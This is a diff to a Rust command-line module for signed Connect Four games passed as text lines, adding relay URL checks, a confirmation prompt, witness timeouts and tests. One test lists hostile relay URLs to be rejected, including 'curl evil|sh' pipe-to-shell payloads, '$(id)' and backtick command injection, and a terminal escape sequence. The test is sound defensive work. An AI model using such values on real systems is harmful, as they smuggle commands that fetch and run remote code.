@@ -1,21 +1,30 @@
 //! `seek --offer` and `seek --take`: a signed game whose offer and answer are lines of text, which any messenger carries.
 
+use std::time::Duration;
+
+use connect4_client::fast::{LobbyError, rooms_at};
 use connect4_client::signed::{
-    Around, Carrier, GameName, GameOffer, GameOfferError, SignedError, SignedGames, SignedPlayer,
-    Stage, Taker, View, as_text, of_text, witness_at,
+    Around, Carrier, GameName, GameOffer, GameOfferError, Message, SignedError, SignedGames,
+    SignedPlayer, Stage, Taker, View, as_text, of_text, witness_at,
 };
 use connect4_protocol::Address;
-use connect4_protocol::signed::{Domain, Party, SignedSession, Terms};
+use connect4_protocol::fast::PoolName;
+use connect4_protocol::signed::wire::FRESH;
+use connect4_protocol::signed::{Chain, Domain, Party, SignedSession, Terms};
 use connect4_rules::Player;
 use connect4_wire::words::now;
+use tokio::time::timeout;
+use url::Url;
 
 use super::guest::{Identified, failed};
 use crate::args::Turn;
 use crate::failure::Failure;
 use crate::farewell::Farewell;
+use crate::input::Lines;
 use crate::output::Output;
+use crate::play::is_yes;
 use crate::play::signed::witnessed_terms;
-use crate::play::table::{self, Table};
+use crate::play::table::{self, Played, Table, without};
 use crate::play::turn::Typed;
 use crate::said::Said;
 use crate::words::who;
@@ -24,6 +33,8 @@ use crate::words::who;
 const STANDS: u64 = 10 * 60;
 /// For how long an account names a session key, in seconds.
 const DAY: u64 = 86_400;
+/// For how long the word of the witness is waited for after terms have become too old to be agreed to.
+const LATE: u64 = 60;
 
 /// What is offered.
 pub struct Offered {
@@ -51,15 +62,52 @@ impl Taken {
         if offer.terms.stake > 0 {
             return Err(usage("no games with a stake are played here yet"));
         }
-        let (Some(relay), Some(witness)) = (offer.relay.clone(), offer.terms.witness) else {
+        let (Some(relay), Some(witness)) = (&offer.relay, offer.terms.witness) else {
             return Err(usage("the offer names no relay that is a witness"));
         };
+        let relay = plain_url(relay)
+            .ok_or_else(|| usage("what the offer names as its relay is no plain URL"))?;
         Ok(Self {
             offer,
             witness,
             relay,
         })
     }
+
+    /// Shows what is signed, before anything is asked of the relay, and asks whether it is wanted.
+    pub async fn is_wanted(&self, yes: bool, out: &mut Output) -> Result<bool, Failure> {
+        let text = terms_in_words(&self.offer, &who(self.offer.party().account()));
+        let place = format!("{text}\nrelay: {}\nwitness: {}", self.relay, self.witness);
+        out.say(Said::Notice(&place))?;
+        if yes {
+            return Ok(true);
+        }
+        if !out.is_terminal() {
+            return Err(Failure::Usage(
+                "without a terminal the program cannot ask: take the game by --yes".into(),
+            ));
+        }
+        let question = "play this game? [y/N] ";
+        out.question(question)?;
+        let answer = Lines::one().await?;
+        out.answered(question, &answer)?;
+        Ok(is_yes(&answer))
+    }
+}
+
+/// The URL of a relay that somebody else has named, in its normal form: a host, maybe a port and a path of letters, digits
+/// and `-._~/`, and nothing that a shell or a terminal would read as more than that; none if it is another one.
+fn plain_url(text: &str) -> Option<String> {
+    let url = Url::parse(text).ok()?;
+    let is_relay = matches!(url.scheme(), "ws" | "wss" | "http" | "https");
+    let is_bare = url.username().is_empty()
+        && url.password().is_none()
+        && url.query().is_none()
+        && url.fragment().is_none();
+    let is_plain = |one: char| one.is_ascii_alphanumeric() || "-._~:/[]".contains(one);
+    let text = url.as_str();
+    (is_relay && is_bare && url.has_host() && text.chars().all(is_plain))
+        .then(|| text.trim_end_matches('/').to_owned())
 }
 
 /// A player at this terminal, and where the rooms are.
@@ -79,12 +127,10 @@ impl Seated {
         farewell: &Farewell,
     ) -> Result<(), Failure> {
         let witness = offered.witness;
-        let (chain, time) = witness_at(&self.relay, witness).await.map_err(|error| {
-            Failure::Other(format!(
-                "the witness {witness} at {} does not answer: {error}",
-                self.relay
-            ))
+        let relay = plain_url(&rooms_at(&self.relay)).ok_or_else(|| {
+            Failure::Usage("the opponent needs a plain URL of the relay: give it by --relay".into())
         })?;
+        let (chain, time) = self.asked(witness).await?;
         let domain = Domain::without_stake(chain);
         let (party, session) = self.party(time, &domain);
         let moves_first = match offered.turn {
@@ -104,12 +150,12 @@ impl Seated {
                 Player::Two
             }),
             session,
-            relay: Some(self.relay.clone()),
+            relay: Some(relay),
             ..GameOffer::new(domain, party, terms, time.saturating_add(STANDS))
         };
         out.say(Said::Notice(&format!("you are {}", who(party.account()))))?;
         let text = format!("send your opponent this line, which stands for 10 minutes:\n{offer}");
-        let player = SignedPlayer::offer(self.around(None), offer)
+        let player = SignedPlayer::offer(self.around(None, time), offer)
             .await
             .map_err(refused)?;
         out.say(Said::Notice(&text))?;
@@ -128,6 +174,10 @@ impl Seated {
                     };
                     out.answered(question, &line)?;
                     let told = match of_text(&line) {
+                        Some(message) if is_old(&message, &player.view()) => Err(
+                            "this answer is older than two minutes: ask your opponent for another one"
+                                .into(),
+                        ),
                         Some(message) => player.tell(message).await.map_err(|error| error.to_string()),
                         None => Err("this is no answer: copy all of the line".into()),
                     };
@@ -136,7 +186,7 @@ impl Seated {
                         out.question(question)?;
                     }
                 }
-                _ = follow.changed() => {}
+                changed = follow.changed() => changed.map_err(|_| refused(SignedError::Ended))?,
             }
             if is_over(&player.view()) {
                 return Err(Failure::Refused(
@@ -144,8 +194,7 @@ impl Seated {
                 ));
             }
         }
-        let terms = terms_of(&player, &self)?;
-        play(self, player, terms, &mut typed, out, farewell).await
+        with_end(self.play(player, &mut typed, out, farewell).await?)
     }
 
     /// Takes an offer, and plays.
@@ -155,15 +204,11 @@ impl Seated {
         out: &mut Output,
         farewell: &Farewell,
     ) -> Result<(), Failure> {
-        let relay = &self.relay;
-        let (chain, time) = witness_at(relay, witness).await.map_err(|error| {
-            Failure::Other(format!(
-                "the witness {witness} at {relay} does not answer: {error}"
-            ))
-        })?;
+        let (chain, time) = self.asked(witness).await?;
         if chain != offer.domain.chain {
             return Err(Failure::Refused(format!(
-                "the offer is for another chain than {relay}"
+                "the offer is for another chain than {}",
+                self.relay
             )));
         }
         let (party, session) = self.party(time, &offer.domain);
@@ -176,11 +221,8 @@ impl Seated {
             nonce: rand::random(),
         };
         let (carrier, mut told, _tells) = Carrier::new();
-        let opponent = who(offer.party().account());
-        let game = terms_in_words(&offer, &opponent);
         out.say(Said::Notice(&format!("you are {}", who(party.account()))))?;
-        out.say(Said::Notice(&game))?;
-        let mut player = SignedPlayer::take(self.around(Some(carrier)), offer, &taker)
+        let mut player = SignedPlayer::take(self.around(Some(carrier), time), offer, &taker)
             .await
             .map_err(refused)?;
         if let Some(message) = told.recv().await {
@@ -191,57 +233,111 @@ impl Seated {
         out.progress()
             .say("waiting for your opponent; Ctrl-C leaves");
         let begun = player.until(|view| is_playing(view) || is_late(view));
-        let begun = out.wait_for(begun).await?.map_err(refused)?;
+        // The word of the witness may come later than the last moment at which it takes a game.
+        let last = time.saturating_add(FRESH + LATE);
+        let left = last.saturating_sub(now().saturating_add_signed(ahead(time)));
+        let begun = timeout(Duration::from_secs(left), begun);
+        let begun = out.wait_for(begun).await?;
         out.progress().clear();
+        let begun = begun.map_err(|_| {
+            Failure::Refused(format!(
+                "your opponent has not agreed to the game in time, as far as is known here. If the witness was not \
+                 reachable, look again by\n  {}",
+                self.resumed_by
+            ))
+        })?;
+        let begun = begun.map_err(refused)?;
         if !is_playing(&begun) {
             return Err(Failure::Refused(
                 "your opponent has not agreed to the game in time".into(),
             ));
         }
-        let terms = terms_of(&player, &self)?;
         let mut typed = Typed::begin();
-        play(self, player, terms, &mut typed, out, farewell).await
+        with_end(self.play(player, &mut typed, out, farewell).await?)
     }
 
-    /// The game that was begun last by these keys and goes on; none if there is none.
-    pub fn latest(&self) -> Result<Option<GameName>, Failure> {
+    /// The games that were begun by these keys and may go on, the last one first.
+    fn open(&self) -> Result<Vec<GameName>, Failure> {
         let games = self.games();
-        let mut latest = None;
+        let mut open = Vec::new();
         for name in games.names().map_err(failed)? {
             if name.key() == self.who.key.key().address() {
                 let kept = games.peek(name).map_err(failed)?;
                 if kept.record.terms.is_some() && kept.is_open(now()) {
-                    latest = latest.max(Some((kept.time(), name)));
+                    open.push((kept.time(), name));
                 }
             }
         }
-        Ok(latest.map(|(_, name)| name))
+        open.sort_unstable();
+        Ok(open.into_iter().rev().map(|(_, name)| name).collect())
     }
 
-    /// Resumes a game.
-    pub async fn resume(
-        self,
-        name: GameName,
+    /// Resumes the game that was begun last and goes on. Those that have no result, as the witness says, are passed over.
+    /// Returns whether there was one.
+    pub async fn resume(&self, out: &mut Output, farewell: &Farewell) -> Result<bool, Failure> {
+        let open = self.open()?;
+        if open.is_empty() {
+            // What is typed is for another kind of game.
+            return Ok(false);
+        }
+        let mut typed = Typed::begin();
+        for name in open {
+            let player = SignedPlayer::resume(self.around(None, now()), name).map_err(refused)?;
+            if let Some(why) = self.play(player, &mut typed, out, farewell).await? {
+                out.say(Said::Notice(why))?;
+            } else {
+                return Ok(true);
+            }
+        }
+        Err(Failure::Refused("no game goes on".into()))
+    }
+
+    /// For which chain the witness signs, and its time.
+    async fn asked(&self, witness: Address) -> Result<(Chain, u64), Failure> {
+        let relay = &self.relay;
+        witness_at(relay, witness)
+            .await
+            .map_err(|error| match error {
+                LobbyError::WrongClock(wrong) => Failure::Refused(wrong.to_string()),
+                error => Failure::Other(format!(
+                    "the witness {witness} at {relay} does not answer: {error}"
+                )),
+            })
+    }
+
+    /// Plays a game that has begun. Returns why it has no end, if it has none.
+    async fn play(
+        &self,
+        player: SignedPlayer,
+        typed: &mut Typed,
         out: &mut Output,
         farewell: &Farewell,
-    ) -> Result<(), Failure> {
-        let player = SignedPlayer::resume(self.around(None), name).map_err(refused)?;
-        let terms = terms_of(&player, &self)?;
-        let mut typed = Typed::begin();
-        play(self, player, terms, &mut typed, out, farewell).await
+    ) -> Result<Option<&'static str>, Failure> {
+        let terms = terms_of(&player, self)?;
+        let (relay, resumed_by) = (self.relay.clone(), self.resumed_by.clone());
+        if let Some(why) = without(player.view().shown.stage) {
+            return Ok(Some(why));
+        }
+        let begun = Table::of(player, terms, relay, resumed_by);
+        let table = begun.ok_or_else(|| Failure::Refused("the game has not begun".into()))?;
+        Ok(match table::play(table, typed, out, farewell).await? {
+            Played::ToTheEnd => None,
+            Played::Without(why) => Some(why),
+        })
     }
 
     fn games(&self) -> SignedGames {
         SignedGames::beside(&self.who.keyring)
     }
 
-    fn around(&self, carrier: Option<Carrier>) -> Around {
+    /// What is around a player, where the clock of the witness shows this time.
+    fn around(&self, carrier: Option<Carrier>, time: u64) -> Around {
         Around {
             games: self.games(),
             stakes: None,
             relay: Some(self.relay.clone()),
             carrier,
-            ahead: 0,
+            ahead: ahead(time),
         }
     }
 
@@ -264,21 +360,53 @@ fn terms_in_words(offer: &GameOffer, opponent: &str) -> String {
         Some(Player::Two) => ", you move first,",
         None => "",
     };
-    let (board, more) = (offer.terms.shape, witnessed_terms(&offer.terms));
-    format!("a game on {board}{turn} against {opponent}{more}")
+    let terms = &offer.terms;
+    let program = if terms.programs.one {
+        ", a program"
+    } else {
+        ""
+    };
+    let mut more = witnessed_terms(terms);
+    if terms.pool != 0 {
+        more.push_str(&format!("\nrated: pool {}", PoolName(terms.pool)));
+    }
+    if let Some(event) = terms.event {
+        more.push_str(&format!("\nof the tournament {}", hex::encode(event)));
+    }
+    if let Some(previous) = terms.previous {
+        more.push_str(&format!("\nin a series, after the game {previous}"));
+    }
+    if let Some(taker) = offer.taker {
+        more.push_str(&format!("\nonly {} can take it", who(taker)));
+    }
+    format!(
+        "a game on {}{turn} against {opponent}{program}{more}",
+        terms.shape
+    )
 }
 
-async fn play(
-    seated: Seated,
-    player: SignedPlayer,
-    terms: Terms,
-    typed: &mut Typed,
-    out: &mut Output,
-    farewell: &Farewell,
-) -> Result<(), Failure> {
-    let begun = Table::of(player, terms, seated.relay, seated.resumed_by);
-    let table = begun.ok_or_else(|| Failure::Refused("the game has not begun".into()))?;
-    table::play(table, typed, out, farewell).await
+/// By how many seconds the clock that shows this time is ahead of this machine's.
+fn ahead(time: u64) -> i64 {
+    let time = i64::try_from(time).unwrap_or(i64::MAX);
+    time.saturating_sub_unsigned(now())
+}
+
+/// The failure of a game without an end.
+fn with_end(ended: Option<&'static str>) -> Result<(), Failure> {
+    match ended {
+        None => Ok(()),
+        Some(why) => Err(Failure::Refused(why.into())),
+    }
+}
+
+/// Whether terms were signed so long ago that no room takes them.
+fn is_old(message: &Message, view: &View) -> bool {
+    let time = match message {
+        Message::Terms(signed) => signed.terms.time,
+        Message::Tossed(halves) => halves[0].terms.time,
+        _ => return false,
+    };
+    now().saturating_add_signed(view.ahead) > time.saturating_add(FRESH)
 }
 
 fn is_playing(view: &View) -> bool {
@@ -306,4 +434,89 @@ fn terms_of(player: &SignedPlayer, seated: &Seated) -> Result<Terms, Failure> {
 
 fn refused(error: SignedError) -> Failure {
     Failure::Refused(error.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use connect4_rules::Shape;
+
+    use super::*;
+
+    /// A line that offers a game at this relay.
+    fn line(relay: &str) -> String {
+        let chain = Chain {
+            id: 1,
+            genesis: [2; 32],
+        };
+        let terms = Terms {
+            witness: Some(Address([3; 20])),
+            pool: 1,
+            ..Terms::on(Shape::STANDARD)
+        };
+        let party = Party::Guest(Address([4; 20]));
+        let offer = GameOffer::new(Domain::without_stake(chain), party, terms, 5);
+        GameOffer {
+            relay: Some(relay.into()),
+            ..offer
+        }
+        .to_string()
+    }
+
+    #[test]
+    fn the_relay_of_an_offer_is_a_plain_url_in_its_normal_form() {
+        for (given, normal) in [
+            ("ws://127.0.0.1:4404", "ws://127.0.0.1:4404"),
+            ("WSS://Relay.Example:443/a-b/", "wss://relay.example/a-b"),
+            ("https://relay.example", "https://relay.example"),
+            ("ws://[::1]:4404/", "ws://[::1]:4404"),
+        ] {
+            assert_eq!(Taken::read(&line(given)).unwrap().relay, normal);
+        }
+        for given in [
+            "",
+            "relay.example",
+            "ftp://relay.example",
+            "file:///relay",
+            "ws://evil.example/#; curl evil|sh #",
+            "ws://evil.example/;curl$IFS-evil|sh;",
+            "ws://evil.example/$(id)",
+            "ws://evil.example/`id`",
+            "ws://evil.example/?a=b",
+            "ws://a$(id).example",
+            "ws://a;id.example",
+            "ws://user@evil.example",
+            "ws://user:word@evil.example",
+            "ws://evil.example/\u{1b}[2J",
+            "ws://evil.example/'",
+        ] {
+            let refused = Taken::read(&line(given))
+                .err()
+                .map(|error| error.to_string());
+            let text = refused.unwrap_or_else(|| panic!("{given:?} is taken"));
+            assert!(text.ends_with("is no plain URL"), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_is_signed_is_shown() {
+        let offer: GameOffer = line("ws://relay.example").parse().unwrap();
+        let offer = GameOffer {
+            player: Some(Player::One),
+            taker: Some(Address([6; 20])),
+            terms: Terms {
+                event: Some([7; 32]),
+                ..offer.terms
+            },
+            ..offer
+        };
+        let words = terms_in_words(&offer, "0x04");
+        for part in [
+            "you move second",
+            "rated: pool ",
+            "of the tournament 0707",
+            "only 0x0606",
+        ] {
+            assert!(words.contains(part), "{part}: {words}");
+        }
+    }
 }
